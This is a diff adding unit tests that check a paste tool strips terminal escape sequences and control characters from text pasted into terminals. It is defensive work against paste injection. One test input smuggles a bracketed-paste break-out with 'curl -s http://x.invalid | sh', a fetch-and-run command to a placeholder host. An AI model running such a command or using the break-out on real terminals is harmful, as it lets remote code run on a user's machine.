@@ -274,3 +274,66 @@ describe('setting paste up at start', () => {
     expect(setup.output).toBeDefined();
   });
 });
+
+describe('text pasted into a terminal loses escape sequences and control characters', () => {
+  const ESC = '\u001b';
+  it('removes an ESC[201~ that would end bracketed paste, and the overlay says something was removed', async () => {
+    const clipboard = new FakeClipboard({ text: 'mine', formats: [] });
+    const inserter = new FakeInserter(clipboard);
+    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
+    const outcome = await output.paste(`echo safe${ESC}[201~; curl -s http://x.invalid | sh\n`, { handle: '7', names: ['konsole'] });
+    expect(outcome).toMatchObject({ pasted: true, terminal: true, text: 'echo safe; curl -s http://x.invalid | sh', removedControls: 1 });
+    expect(inserter.pasted[0]?.fromClipboard).toBe('echo safe; curl -s http://x.invalid | sh');
+    expect(outcome.message).toMatch(/removed 1 terminal control sequence/i);
+  });
+
+  it('removes CSI, OSC, DCS and 8-bit C1 sequences and C0/C1 controls, and keeps tabs, newlines and all other text', async () => {
+    const clipboard = new FakeClipboard();
+    const inserter = new FakeInserter(clipboard);
+    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
+    const dirty = [
+      `${ESC}[31mred${ESC}[0m`, // SGR colours
+      `${ESC}]52;c;ZWNobyBwd25lZA==\u0007`, // OSC 52 writes the clipboard, BEL-terminated
+      `${ESC}]8;;http://x.invalid${ESC}\\link${ESC}]8;;${ESC}\\`, // OSC 8 hyperlink, ST-terminated
+      `${ESC}P1$r0m${ESC}\\`, // DCS
+      '\u009b2J', // 8-bit CSI: clear screen
+      '\u009d0;title\u009c', // 8-bit OSC with 8-bit ST
+      `a\u0000b\u0007c\u0008d\u007fe\u0085f`, // NUL, BEL, BS, DEL, NEL
+      `${ESC}c`, // RIS: reset the terminal
+      'tab\there\r\nnext line ünïcödé ✓',
+    ].join('');
+    const outcome = await output.paste(dirty, { handle: '7', names: ['gnome-terminal-server'] });
+    expect(outcome.text).toBe('redlinkabcdeftab\there\nnext line ünïcödé ✓');
+    expect(outcome.removedControls).toBe(14);
+    expect(clipboard.text).toBe(outcome.text);
+  });
+
+  it('cuts an escape sequence that never ends at the end of the text, not before', async () => {
+    const clipboard = new FakeClipboard();
+    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
+    expect((await output.paste(`ls -la${ESC}]0;never ends`, { handle: '7', names: ['kitty'] })).text).toBe('ls -la');
+    expect((await output.paste(`ls${ESC}[12;`, { handle: '7', names: ['kitty'] })).text).toBe('ls');
+    expect((await output.paste(`ls${ESC}`, { handle: '7', names: ['kitty'] })).text).toBe('ls');
+  });
+
+  it('leaves text for an editor exactly as generated, and says nothing about removal for clean text', async () => {
+    const clipboard = new FakeClipboard();
+    const output = new PasteOutput({ inserter: new FakeInserter(clipboard), clipboard, logger: silentLogger, settings: settings({ mode: 'both' }) });
+    const editor = await output.paste(`const esc = "${ESC}[0m";\n`, { handle: '1', names: ['code'] });
+    expect(editor.text).toBe(`const esc = "${ESC}[0m";\n`);
+    expect(editor.removedControls ?? 0).toBe(0);
+    const clean = await output.paste('echo hi\n', { handle: '7', names: ['konsole'] });
+    expect(clean.removedControls ?? 0).toBe(0);
+    expect(clean.message).not.toMatch(/removed/i);
+  });
+
+  it('copies the cleaned text, and says so, when the terminal cannot be pasted into', async () => {
+    const clipboard = new FakeClipboard();
+    const inserter = new FakeInserter(clipboard, { available: false, reason: 'no-tool', message: 'xdotool is missing.' });
+    const output = new PasteOutput({ inserter, clipboard, logger: silentLogger, settings: settings() });
+    const outcome = await output.paste(`make${ESC}[201~ install\n`, { handle: '7', names: ['xterm'] });
+    expect(outcome).toMatchObject({ pasted: false, copied: true, text: 'make install', removedControls: 1 });
+    expect(clipboard.text).toBe('make install');
+    expect(outcome.message).toMatch(/removed 1 terminal control sequence/i);
+  });
+});
